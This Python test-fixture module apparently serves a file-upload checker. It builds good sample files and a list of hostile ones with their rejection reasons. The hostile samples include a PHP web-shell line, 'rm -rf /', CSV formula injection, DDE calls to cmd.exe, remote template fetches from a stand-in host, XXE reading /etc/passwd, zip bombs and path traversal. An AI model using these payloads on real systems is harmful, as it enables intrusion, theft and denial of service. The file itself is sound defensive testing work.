"""Files made in the test: good ones of every kind that is taken, and hostile ones with the reason for their refusal."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image

from files.accepting import TEST_VIRUS
from files.office import MOST_ENTRIES
from govuk.pdf import pdf as drawn

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_LINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


# --- PDF --------------------------------------------------------------------------------------------------------------


def pdf(extra: bytes = b"", *, after: bytes = b"", trailer: bytes = b"") -> bytes:
    """A PDF of one empty page, with `extra` as object 4."""
    parts = [
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n",
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n",
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n",
    ]
    if extra:
        parts.append(b"4 0 obj\n" + extra + b"\nendobj\n")
    whole, places = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", []
    for part in parts:
        places.append(len(whole))
        whole += part
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(parts) + 1)
    table += b"".join(b"%010d 00000 n \n" % place for place in places)
    told = b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n" % (len(parts) + 1, trailer, len(whole))
    return whole + table + told + b"%%EOF\n" + after


def packed_objects(inside: bytes, *, told: bytes = b"/Filter /FlateDecode ") -> bytes:
    packed = zlib.compress(inside)
    return b"<< /Type /ObjStm /N 1 /First 4 %s/Length %d >>\nstream\n%s\nendstream" % (told, len(packed), packed)


SCRIPT = b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"


# --- Pictures ---------------------------------------------------------------------------------------------------------


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(width: int = 4, height: int = 4, *, more: bytes = b"", after: bytes = b"", rows: bytes | None = None) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    dots = zlib.compress(b"\x00" * (width + 1) * height if rows is None else rows)
    return b"\x89PNG\r\n\x1a\n" + head + more + chunk(b"IDAT", dots) + chunk(b"IEND", b"") + after


def jpeg(*, exif: bytes = b"", comment: bytes = b"", size: tuple[int, int] = (8, 8), **told: object) -> bytes:
    kept = io.BytesIO()
    notes = {"exif": exif} if exif else {}
    Image.new("RGB", size, (20, 90, 90)).save(kept, "JPEG", comment=comment or None, **notes, **told)
    return kept.getvalue()


def resized(picture: bytes, width: int, height: int) -> bytes:
    """The same JPEG, saying that it is of another size."""
    at = picture.index(b"\xff\xc0") + 5
    return picture[:at] + struct.pack(">HH", height, width) + picture[at + 4 :]


def taken_somewhere() -> bytes:
    notes = Image.Exif()
    notes[0x010F] = "A camera"
    notes.get_ifd(0x8825)[1] = "N"
    notes.get_ifd(0x8825)[2] = (51.0, 30.0, 0.0)
    return notes.tobytes()


def taken_anywhere() -> bytes:
    notes = Image.Exif()
    notes[0x010F] = "A camera"
    return notes.tobytes()


# --- Office documents -------------------------------------------------------------------------------------------------


def archive(parts: dict[str, bytes | str], *, first_stored: bool = False) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as made:
        for number, (name, content) in enumerate(parts.items()):
            how = zipfile.ZIP_STORED if first_stored and not number else zipfile.ZIP_DEFLATED
            made.writestr(zipfile.ZipInfo(name, (2026, 11, 27, 9, 0, 0)), content, compress_type=how)
    return kept.getvalue()


def types(*main: str, more: str = "") -> str:
    listed = "".join(f'<Override PartName="/main{n}.xml" ContentType="{each}"/>' for n, each in enumerate(main))
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Default Extension="xml" ContentType="application/xml"/>{listed}{more}</Types>'
    )


def links(*rows: tuple[str, str, str]) -> str:
    listed = "".join(
        f'<Relationship Id="r{n}" Type="{OFFICE_LINK}/{kind}" Target="{to}" TargetMode="{how}"/>'
        for n, (kind, to, how) in enumerate(rows)
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{RELATIONS}">{listed}</Relationships>'


def docx(more: dict[str, bytes | str] | None = None, *, body: str = "Hello", listed: str = "") -> bytes:
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": types(WORD, more=listed),
        "_rels/.rels": links(("officeDocument", "word/document.xml", "Internal")),
        "word/document.xml": f'<?xml version="1.0"?><w:document {W}><w:p><w:t>{body}</w:t></w:p></w:document>',
    }
    return archive(parts | (more or {}))


def xlsx(more: dict[str, bytes | str] | None = None, *, sheet: str = 'name="One"') -> bytes:
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": types(EXCEL),
        "_rels/.rels": links(("officeDocument", "xl/workbook.xml", "Internal")),
        "xl/workbook.xml": f"<workbook><sheets><sheet {sheet}/></sheets></workbook>",
        "xl/printerSettings/printerSettings1.bin": b"\x00\x01",
    }
    return archive(parts | (more or {}))


def odf(kind: str, more: dict[str, bytes | str] | None = None) -> bytes:
    parts: dict[str, bytes | str] = {
        "mimetype": f"application/vnd.oasis.opendocument.{kind}",
        "content.xml": '<?xml version="1.0" encoding="UTF-8"?><office:document><office:scripts/></office:document>',
        "META-INF/manifest.xml": '<?xml version="1.0"?><manifest:manifest/>',
        "Configurations2/accelerator/current.xml": "",
    }
    return archive(parts | (more or {}), first_stored=True)


def lying(content: bytes, says: int) -> bytes:
    """The archive, saying of its first part that it unpacks to so many bytes."""
    directory = content.index(b"PK\x01\x02")
    told = struct.pack("<I", says)
    return content[:22] + told + content[26 : directory + 24] + told + content[directory + 28 :]


def overlapping() -> bytes:
    """An archive each of whose parts unpacks the same bytes: what makes a few kilobytes into a petabyte."""
    whole = bytearray(docx())
    places = [n for n in range(len(whole)) if whole[n : n + 4] == b"PK\x01\x02"]
    for place in places[1:]:
        whole[place + 20 : place + 24] = struct.pack("<I", len(whole))
    return bytes(whole)


def locked() -> bytes:
    whole = bytearray(docx())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = whole.index(mark)
        whole[place + at] |= 1
    return bytes(whole)


def drawn_by_us() -> bytes:
    return drawn('<html lang="en"><head><title>A</title></head><body><p>Text</p></body></html>', identifier=b"a" * 16)


# --- The two lists ----------------------------------------------------------------------------------------------------

NOISE = random.Random(7).randbytes(4000)  # noqa: S311 - the same bytes each time
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
PAGE = b"<!DOCTYPE html><html><script>alert(1)</script></html>"

Made = bytes | Callable[[], bytes]
GOOD: dict[str, tuple[str, Made, str]] = {
    "a small PDF": ("report.pdf", pdf(), "PDF"),
    "a PDF of ours": ("report.pdf", drawn_by_us, "PDF"),
    "a PDF that packs its objects": ("a.pdf", pdf(packed_objects(b"4 0 << /A 1 >>")), "PDF"),
    "a PDF that packs nothing": ("a.pdf", pdf(b"<< /Type /ObjStm >>\nstream\n4 0\nendstream"), "PDF"),
    "a PDF that packs badly": ("a.pdf", pdf(packed_objects(b"4 0").replace(b"x\x9c", b"??")), "PDF"),
    "a PDF called a page": ("report.pdf.html", pdf(), "PDF"),
    "a PNG": ("chart.png", png(), "PNG"),
    "a PNG with words": ("chart.png", png(more=chunk(b"tEXt", b"Title\x00A chart")), "PNG"),
    "a JPEG": ("photo.jpg", jpeg(), "JPEG"),
    "a JPEG in steps": ("photo.jpeg", jpeg(progressive=True, size=(64, 64)), "JPEG"),
    "a JPEG with filling": ("photo.jpg", jpeg().replace(b"\xff\xdb", b"\xff\xff\xff\xdb", 1), "JPEG"),
    "a JPEG with notes": ("photo.jpg", jpeg(exif=taken_anywhere()), "JPEG"),
    "a JPEG with a smaller one behind it": ("photo.jpg", jpeg() + jpeg(size=(4, 4)), "JPEG"),
    "a JPEG called a PNG": ("logo.png", jpeg(), "JPEG"),
    "a Word document": ("Easy Read.docx", docx(), "DOCX"),
    "a Word document in wide letters": (
        "wide.docx",
        docx({"word/styles.xml": '<?xml version="1.0" encoding="UTF-16"?><w:styles/>'.encode("utf-16")}),
        "DOCX",
    ),
    "a Word document with a web link": (
        "linked.docx",
        docx({"word/_rels/document.xml.rels": links(("hyperlink", "https://example.org/", "External"))}),
        "DOCX",
    ),
    "a workbook": ("pay.xlsx", xlsx(), "XLSX"),
    "a text of LibreOffice": ("plan.odt", odf("text"), "ODT"),
    "a table of LibreOffice": ("plan.ods", odf("spreadsheet"), "ODS"),
    "a table": ("pay.csv", "\ufeffGrade,Women,Men\r\nGrŵp 1,12,-3.5\r\n".encode(), "CSV"),
    "a table with lines in its cells": ("pay.csv", b'Grade,Note\n"A","two\nlines, and ""quotes"""\n', "CSV"),
    "plain text": ("notes.txt", "Croeso i bawb – £5\n".encode(), "TEXT"),
    "plain text without an ending": ("README", b"Read me\n", "TEXT"),
    "text that speaks of less and more": ("maths.txt", b"3 < 4 and 5 > 4\n", "TEXT"),
}

HOSTILE: dict[str, tuple[str, Made, str]] = {
    "nothing": ("empty.pdf", b"", "empty"),
    "only spaces": ("empty.txt", b" \n\n", "empty"),
    "a drawing with a script": ("logo.svg", SVG, "page"),
    "a drawing called a PNG": ("logo.png", b'<?xml version="1.0"?>' + SVG, "page"),
    "a drawing behind a byte order mark": ("logo.txt", b"\xef\xbb\xbf" + SVG, "page"),
    "a web page": ("report.html", PAGE, "page"),
    "a web page called a PDF": ("report.pdf", b"\n\n" + PAGE, "page"),
    "a web page after words": ("notes.txt", b"Hello\n" + PAGE, "page"),
    "PHP": ("a.txt", b"<?php system('id'); ?>", "page"),
    "PostScript": ("a.pdf", b"%!PS-Adobe-3.0\n(x) run\n", "page"),
    "rich text": ("a.docx", b"{\\rtf1\\ansi Hello}", "page"),
    "a moving picture": ("a.gif", b"GIF89a\x01\x00\x01\x00" + NOISE, "unknown"),
    "a moving picture that is a script": ("a.gif", b"GIF89a/*aa*/=1;alert(1);", "page"),
    "a program for Windows": ("report.pdf", b"MZ\x90\x00" + NOISE, "program"),
    "a program for Linux": ("report.docx", b"\x7fELF\x02" + NOISE, "program"),
    "a shell script": ("a.txt", b"#!/bin/sh\nrm -rf /\n", "program"),
    "noise": ("a.pdf", b"\x00" + NOISE, "unknown"),
    "text with a zero": ("a.txt", b"Hello\x00World", "unknown"),
    "a table in another encoding": ("pay.csv", "Grade;£\n1;2\n".encode("cp1252"), "unknown"),
    "text in wide letters": ("a.txt", "Hello".encode("utf-16"), "unknown"),
    "the test virus": ("a.txt", TEST_VIRUS, "virus"),
    "the test virus in a PDF": ("a.pdf", pdf(b"(" + TEST_VIRUS + b")"), "virus"),
    "a line without end": ("a.csv", b"a" * 300_000, "long_line"),
    "a table with an open quote": ("a.csv", b'a,"b\nc', "no_table"),
    "a table that starts a program": ("a.csv", b"Name\n=cmd|' /C calc'!A0\n", "table_runs"),
    "a table that fetches a page": ("a.csv", b'Name\n"=WEBSERVICE(""http://x"")"\n', "table_runs"),
    "a table with a wide equals sign": ("a.csv", b"Name\n @x|y\n", "table_runs"),
    "a PDF that is cut off": ("a.pdf", pdf()[:-40], "pdf_cut"),
    "a PDF with much behind it": ("a.pdf", pdf(after=b"x" * 5000), "pdf_cut"),
    "a PDF that is a page too": ("a.pdf", pdf(after=PAGE), "pdf_joined"),
    "a PDF that is an archive too": ("a.pdf", pdf(b"(x)" + archive({"a.exe": b"MZ"})), "pdf_joined"),
    "a PDF with a script": ("a.pdf", pdf(SCRIPT), "pdf_runs"),
    "a PDF with a script in other letters": (
        "a.pdf",
        pdf(SCRIPT.replace(b"/JavaScript", b"/J#61vaScr#69pt")),
        "pdf_runs",
    ),
    "a PDF with a packed script": ("a.pdf", pdf(packed_objects(b"4 0 " + SCRIPT)), "pdf_runs"),
    "a PDF with a script packed and spelled otherwise": (
        "a.pdf",
        pdf(packed_objects(b"4 0 << /S /#4aavaScript >>").replace(b"/ObjStm", b"/Obj#53tm")),
        "pdf_runs",
    ),
    "a PDF that packs in another way": (
        "a.pdf",
        pdf(packed_objects(b"4 0", told=b"/Filter [/ASCIIHexDecode /FlateDecode] ")),
        "pdf_packed",
    ),
    "a PDF that starts a program": ("a.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>"), "pdf_runs"),
    "a PDF with a form that runs": ("a.pdf", pdf(b"<< /AcroForm << /XFA [(a) 4 0 R] >> >>"), "pdf_runs"),
    "a PDF with files in it": ("a.pdf", pdf(b"<< /Names << /EmbeddedFiles 4 0 R >> >>"), "pdf_holds_files"),
    "a PDF with a password": ("a.pdf", pdf(trailer=b"/Encrypt 4 0 R "), "pdf_locked"),
    "a PDF that unpacks without end": ("a.pdf", lambda: pdf(packed_objects(b" " * 70_000_000)), "pdf_bomb"),
    "a flood of dots": ("a.png", png(60_000, 60_000, rows=b""), "too_many_dots"),
    "a long thin picture": ("a.png", png(1, 30_000, rows=b""), "too_many_dots"),
    "a picture of no size": ("a.png", png(0, 4, rows=b""), "damaged"),
    "a PNG that is an archive too": ("a.png", png(after=archive({"a": b"b"})), "joined"),
    "a PNG with PHP in it": (
        "a.png",
        png(more=chunk(b"tEXt", b"Comment\x00<?php system($_GET[0]); ?>")),
        "picture_runs",
    ),
    "a PNG that is cut off": ("a.png", png()[:-20], "damaged"),
    "a PNG with a wrong sum": ("a.png", png().replace(b"IHDR\x00", b"IHDR\x01"), "damaged"),
    "a PNG without a head": ("a.png", b"\x89PNG\r\n\x1a\n" + chunk(b"IEND", b""), "damaged"),
    "a PNG without a picture": ("a.png", png()[:33] + chunk(b"IEND", b""), "damaged"),
    "a flood of dots in a JPEG": ("a.jpg", resized(jpeg(), 65_000, 65_000), "too_many_dots"),
    "a JPEG with a page in its comment": ("a.jpg", jpeg(comment=PAGE), "picture_runs"),
    "a JPEG that is a page too": ("a.jpg", jpeg() + PAGE, "joined"),
    "a JPEG that is cut off": ("a.jpg", jpeg()[:-10], "damaged"),
    "a JPEG without an end": ("a.jpg", jpeg()[:-2], "damaged"),
    "a JPEG that is cut off in its head": ("a.jpg", jpeg()[:30], "damaged"),
    "a JPEG of nothing": ("a.jpg", b"\xff\xd8\xff\xd9", "damaged"),
    "a JPEG with a head too short": ("a.jpg", b"\xff\xd8\xff\xff\xc0\x00\x04\x08\x00\xff\xd9", "damaged"),
    "a JPEG with markers only": ("a.jpg", b"\xff\xd8\xff\x01\xff\xd0", "damaged"),
    "an old document of Word": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + NOISE, "old_office"),
    "an archive": ("a.zip", archive({"a.txt": b"Hello"}), "archive"),
    "an archive called a document": ("a.docx", archive({"a.exe": b"MZ"}), "archive"),
    "an archive in an archive": ("a.zip", archive({"b.zip": archive({"c.zip": b"PK"})}), "archive"),
    "slides": ("a.odp", odf("presentation"), "archive"),
    "a template": ("a.ott", odf("text-template"), "archive"),
    "a list of types that says two things": ("a.docx", archive({"[Content_Types].xml": types(WORD, EXCEL)}), "archive"),
    "an empty archive": ("a.docx", b"PK\x03\x04" + NOISE, "damaged"),
    "a document with macros": ("a.docx", docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "runs"),
    "a document with macros by its types": (
        "a.docx",
        archive({"[Content_Types].xml": types("application/vnd.ms-word.document.macroEnabled.main+xml")}),
        "runs",
    ),
    "a document with macros by types in other letters": (
        "a.docx",
        docx(listed='<Override PartName="/v" ContentType="application/vnd.ms-office.&#118;baProject"/>'),
        "runs",
    ),
    "a document with a program": ("a.docx", docx({"word/media/image1.png": b"MZ\x90"}), "runs"),
    "a document with a program by name": ("a.docx", docx({"word/evil.exe": b"?"}), "runs"),
    "a document with an object": ("a.docx", docx({"word/embeddings/oleObject1.bin": b"\x00"}), "runs"),
    "a document with a control": ("a.docx", docx({"word/activeX/activeX1.xml": "<x/>"}), "runs"),
    "a document with a drawing": ("a.docx", docx({"word/media/a.svg": SVG}), "runs"),
    "a document that asks another program": (
        "a.docx",
        docx(body='</w:t><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText><w:t>'),
        "runs",
    ),
    "a workbook that asks another program": (
        "a.xlsx",
        xlsx({"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'}),
        "runs",
    ),
    "an open document with macros": ("a.odt", odf("text", {"Basic/Standard/Module1.xml": "<x/>"}), "runs"),
    "an open document that runs a script": (
        "a.odt",
        odf("text", {"styles.xml": '<a href="vnd.sun.star.script:Standard.Module1.Main"/>'}),
        "runs",
    ),
    "an open document with a password": (
        "a.odt",
        odf("text", {"META-INF/manifest.xml": "<m><manifest:encryption-data/></m>"}),
        "locked",
    ),
    "a document with a password": ("a.docx", locked(), "locked"),
    "a document that fetches its template": (
        "a.docx",
        docx({"word/_rels/settings.xml.rels": links(("attachedTemplate", "http://x/a.dotm", "External"))}),
        "fetches",
    ),
    "a document that fetches an object": (
        "a.docx",
        docx({"word/_rels/document.xml.rels": links(("oleObject", "http://x/a.html", "External"))}),
        "fetches",
    ),
    "a document whose links cannot be read": ("a.docx", docx({"word/_rels/a.rels": "<Relationships"}), "damaged"),
    "a list of types that cannot be read": ("a.docx", archive({"[Content_Types].xml": "<Types"}), "damaged"),
    "a billion laughs": (
        "a.docx",
        docx({"word/a.xml": '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>'}),
        "entities",
    ),
    "an entity from the disk": (
        "a.docx",
        archive({"[Content_Types].xml": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><Types>&a;</Types>'}),
        "entities",
    ),
    "an entity in wide letters": (
        "a.docx",
        docx({"word/a.xml": '<!DOCTYPE x [<!ENTITY a "ha">]><x>&a;</x>'.encode("utf-16")}),
        "entities",
    ),
    "letters in an encoding of their own": (
        "a.docx",
        docx({"word/a.xml": '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE'}),
        "damaged",
    ),
    "a bomb": ("a.docx", lambda: docx({"word/media/a.bmp": b"\x00" * 260 * 1024**2}), "bomb"),
    "a bomb that lies": (
        "a.docx",
        lying(archive({"[Content_Types].xml": types(WORD) + " " * 9_000_000}), 900),
        "damaged",
    ),
    "parts that overlap": ("a.docx", overlapping(), "bomb"),
    "more parts than a document has": (
        "a.docx",
        docx({f"word/{n}.txt": b"" for n in range(MOST_ENTRIES)}),
        "bomb",
    ),
    "a list of types without end": ("a.docx", archive({"[Content_Types].xml": types(WORD) + " " * 9_000_000}), "bomb"),
    "a part that climbs": ("a.docx", docx({"../../etc/cron.d/a": b"x"}), "damaged"),
    "a part packed otherwise": ("a.docx", docx().replace(b"\x08\x00", b"\x0c\x00"), "damaged"),
}


def of(listed: dict[str, tuple[str, Made, str]], which: str) -> tuple[str, bytes, str]:
    """The file: its name, its content, and what is to become of it. Large ones are made when they are asked for."""
    name, content, told = listed[which]
    return name, content() if callable(content) else content, told
